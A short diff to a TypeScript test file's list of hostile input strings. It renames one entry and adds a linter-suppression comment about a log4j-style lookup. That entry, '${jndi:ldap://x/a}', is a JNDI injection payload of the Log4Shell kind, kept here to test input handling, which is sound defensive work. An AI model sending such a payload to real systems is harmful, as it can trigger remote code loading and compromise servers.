@@ -160,7 +160,8 @@ const HOSTILE_STRINGS: [string, string][] = [
   ['U+0000', NUL],
   ['200 kB', 'x'.repeat(200_000)],
   ['encoded NUL', '%00'],
-  ['template', '${jndi:ldap://x/a}'],
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style lookup, meant literally
+  ['lookup', '${jndi:ldap://x/a}'],
   ['empty', ''],
   ['blank', '   '],
   ['emoji', '🚢'],
